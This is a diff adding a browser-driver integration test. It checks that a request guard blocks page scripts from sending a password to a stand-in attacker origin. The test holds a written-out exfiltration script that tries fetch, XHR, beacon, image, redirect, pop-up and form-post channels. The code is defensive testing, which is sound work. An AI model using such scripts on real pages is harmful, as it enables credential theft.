@@ -1,0 +1,192 @@
+import { BrowserDriver } from "@sextant/core"
+import {
+  type AttackerOrigin,
+  type FixtureSite,
+  startAttackerOrigin,
+  startFixtureSite,
+} from "@sextant/fixture-site"
+import { secretForms } from "@sextant/memory"
+import { layer as browserLayer } from "@sextant/webdriverio"
+import { Effect, ManagedRuntime } from "effect"
+import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { blockedRequestMessage, guardSecretRequests } from "../src/index.ts"
+
+/**
+ * The driver's request guard on its own, in real headless Chromium (the default Classic session whose
+ * tabs' DevTools sockets stand in for BiDi): a page on the allowed origin sends the password to the
+ * other origin by every means a script has — fetch with the secret in a header, XHR with a JSON body,
+ * a beacon, an image, a form post, a pop-up, and a fetch the allowed origin answers with 307 — and the
+ * other origin, which logs every request, receives none of them. Requests without the secret, and
+ * requests to the allowed origin, still go through.
+ */
+
+const PASSWORD = "open sesame+42"
+
+let site: FixtureSite
+let attacker: AttackerOrigin
+let runtime: ManagedRuntime.ManagedRuntime<BrowserDriver, unknown>
+
+beforeAll(async () => {
+  site = await startFixtureSite({ port: 0 })
+  attacker = await startAttackerOrigin()
+  runtime = ManagedRuntime.make(browserLayer({}))
+  await runtime.runPromise(Effect.void)
+})
+
+afterAll(async () => {
+  await runtime?.dispose()
+  await attacker?.close()
+  await site?.close()
+})
+
+const compact = (text: string): string => text.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, "")
+const leaks = (text: string): boolean =>
+  secretForms(PASSWORD).some((form) => text.toLowerCase().includes(form.toLowerCase())) ||
+  compact(text).includes("opensesame")
+
+const siteCounts = async (): Promise<Record<string, number>> =>
+  (await (await fetch(`${site.url}/hostile/counts`)).json()) as Record<string, number>
+
+// Every way a page script can send what it read from a field; each request is awaited or given time.
+const exfiltrate = `
+const [to, site, secret] = arguments
+const settle = (promise) => promise.then(() => "sent", (error) => "failed: " + error.message)
+const answers = {}
+answers.header = await settle(fetch(to + "/h", { headers: { "x-token": secret.toUpperCase() } }))
+answers.xhr = await new Promise((resolve) => {
+  const request = new XMLHttpRequest()
+  request.open("POST", to + "/x")
+  request.setRequestHeader("content-type", "application/json")
+  request.onload = () => resolve("sent")
+  request.onerror = () => resolve("failed")
+  request.send(JSON.stringify({ p: secret }))
+})
+answers.beacon = navigator.sendBeacon(to + "/b", new URLSearchParams({ p: secret }))
+const image = new Image()
+answers.image = await new Promise((resolve) => {
+  image.onload = () => resolve("sent")
+  image.onerror = () => resolve("failed")
+  image.src = to + "/i?b=" + btoa(secret)
+})
+answers.redirect = await settle(fetch(site + "/hostile/redirect-post?to=" + encodeURIComponent(to), { method: "POST", body: "p=" + encodeURIComponent(secret) }))
+answers.allowed = await settle(fetch(site + "/hostile/keystroke", { method: "POST", body: secret }))
+answers.harmless = await settle(fetch(to + "/harmless", { mode: "no-cors" }))
+answers.popup = window.open(to + "/popup?p=" + encodeURIComponent(secret.replaceAll(" ", "-"))) === null ? "refused" : "opened"
+await new Promise((resolve) => setTimeout(resolve, 800))
+const form = document.createElement("form")
+form.method = "post"
+form.action = to + "/collect"
+const field = document.createElement("input")
+field.name = "password"
+field.value = secret
+form.append(field)
+document.body.append(form)
+setTimeout(() => form.submit(), 0)
+return JSON.stringify(answers)
+`
+
+describe("the request guard stops every request that carries a secret to another origin", () => {
+  it("blocks fetch, XHR, beacon, image, pop-up, form post and a redirect's hop, and lets the rest through", async () => {
+    const since = attacker.requests.length
+    const before = await siteCounts()
+    const { answers, blocked } = await runtime.runPromise(
+      Effect.scoped(
+        Effect.gen(function* () {
+          const driver = yield* BrowserDriver
+          yield* driver.navigate(`${site.url}/hostile/search-form`)
+          const armed = yield* guardSecretRequests(driver, { values: [PASSWORD], origins: [site.url] })
+          if (!("guard" in armed)) throw new Error(armed.missing)
+          const answers = JSON.parse(
+            String(yield* driver.evaluate(exfiltrate, [attacker.url, site.url, PASSWORD])),
+          ) as Record<string, unknown>
+          yield* Effect.sleep("1500 millis")
+          const blocked = yield* armed.guard.blocked
+          for (const tab of yield* driver.tabs) if (!tab.active) yield* driver.closeTab(tab.handle)
+          return { answers, blocked }
+        }),
+      ),
+    )
+    const requests = attacker.requests.slice(since)
+    expect(requests.some((request) => leaks(JSON.stringify(request)))).toBe(false)
+    // CORS preflights name only the header, never its value; the requests they clear never leave.
+    expect(
+      requests
+        .filter((request) => request.method !== "OPTIONS")
+        .map((request) => `${request.method} ${request.url}`),
+    ).toEqual(["GET /harmless"])
+    expect(answers.header).toMatch(/^failed/)
+    expect(answers.xhr).toBe("failed")
+    expect(answers.image).toBe("failed")
+    expect(answers.redirect).toMatch(/^failed/)
+    expect(answers.allowed).toBe("sent")
+    expect(answers.harmless).toBe("sent")
+    const seen = blocked.map((request) => `${request.method} ${request.resourceType} ${request.carriedIn}`)
+    // Chromium reports a fetch() as XHR. In order: the header fetch, the XHR, the beacon, the image,
+    // the redirected fetch's second hop, the pop-up, the form post.
+    expect(seen).toEqual([
+      "GET XHR header",
+      "POST XHR body",
+      "POST Ping body",
+      "GET Image url",
+      "POST XHR body",
+      "GET Document url",
+      "POST Document body",
+    ])
+    expect(blocked.every((request) => request.origin === attacker.url)).toBe(true)
+    const redirected = blocked.find((request) => request.redirectedFrom !== undefined)
+    expect(redirected?.redirectedFrom).toBe(site.url)
+    expect(blockedRequestMessage(redirected!, "<secret:password>")).toContain(
+      `request to ${attacker.url} (a redirect from ${site.url}) carried <secret:password> in its body`,
+    )
+    // The allowed origin got its POST and the redirecting POST; the hop to the other origin never left.
+    const counts = await siteCounts()
+    expect((counts.keystroke ?? 0) - (before.keystroke ?? 0)).toBe(1)
+    expect((counts["POST /hostile/redirect-post"] ?? 0) - (before["POST /hostile/redirect-post"] ?? 0)).toBe(
+      1,
+    )
+  }, 60_000)
+
+  it("stops with its scope: the same request goes out once the guard is released", async () => {
+    const since = attacker.requests.length
+    const token = "sentinel-token-8713"
+    const send = `return fetch(arguments[0] + "/after?t=" + arguments[1], { mode: "no-cors" }).then(() => "sent", () => "failed")`
+    const [guarded, released] = await runtime.runPromise(
+      Effect.gen(function* () {
+        const driver = yield* BrowserDriver
+        yield* driver.navigate(`${site.url}/hostile/search-form`)
+        const guarded = yield* Effect.scoped(
+          Effect.gen(function* () {
+            const armed = yield* guardSecretRequests(driver, { values: [token], origins: [site.url] })
+            if (!("guard" in armed)) throw new Error(armed.missing)
+            return yield* driver.evaluate(send, [attacker.url, token])
+          }),
+        )
+        const released = yield* driver.evaluate(send, [attacker.url, token])
+        return [guarded, released] as const
+      }),
+    )
+    expect(guarded).toBe("failed")
+    expect(released).toBe("sent")
+    expect(attacker.requests.slice(since).map((request) => request.url)).toEqual([`/after?t=${token}`])
+  }, 60_000)
+})
+
+describe("a BiDi session", () => {
+  it("refuses to guard requests and says why", async () => {
+    const bidi = ManagedRuntime.make(browserLayer({ bidi: true }))
+    try {
+      const armed = await bidi.runPromise(
+        Effect.scoped(
+          BrowserDriver.use((driver) =>
+            guardSecretRequests(driver, { values: [PASSWORD], origins: [site.url] }),
+          ),
+        ),
+      )
+      expect("missing" in armed ? armed.missing : "").toContain(
+        "guarding requests needs the tabs' Chrome DevTools sockets",
+      )
+    } finally {
+      await bidi.dispose()
+    }
+  }, 60_000)
+})
